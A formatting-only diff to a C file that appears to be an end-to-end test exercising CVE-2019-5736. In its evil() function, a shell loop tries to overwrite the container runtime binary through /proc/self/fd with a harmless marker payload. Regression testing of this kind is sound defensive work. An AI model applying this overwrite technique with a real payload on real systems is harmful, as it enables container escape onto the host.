@@ -22,8 +22,8 @@
 #include <fcntl.h>
 #include <stdarg.h>
 #include <stdio.h>
-#include <string.h>
 #include <stdlib.h>
+#include <string.h>
 #include <unistd.h>
 
 static const char payload[] = "#!/bin/sh\necho WARD-E2E-CVE-2019-5736-PAYLOAD\n";
@@ -104,9 +104,11 @@ evil(void)
 	snprintf(script, sizeof(script),
 		 "i=0; while [ $i -lt 500 ]; do i=$((i+1));"
 		 " if ( printf '%%s' \"$PAYLOAD\" 1<> /proc/self/fd/%d ) 2>/tmp/preload.err; then"
-		 " echo \"WROTE via reopen of /proc/self/fd/%d after the runtime exited\" >> /tmp/preload.log; break; fi;"
+		 " echo \"WROTE via reopen of /proc/self/fd/%d after the runtime exited\" >> "
+		 "/tmp/preload.log; break; fi;"
 		 " if ! grep -q busy /tmp/preload.err; then"
-		 " echo \"reopen after exit: $(cat /tmp/preload.err)\" >> /tmp/preload.log; break; fi;"
+		 " echo \"reopen after exit: $(cat /tmp/preload.err)\" >> /tmp/preload.log; break; "
+		 "fi;"
 		 " sleep 0.01; done; echo 'child done' >> /tmp/preload.log",
 		 keep, keep);
 	(void)setenv("PAYLOAD", payload, 1);
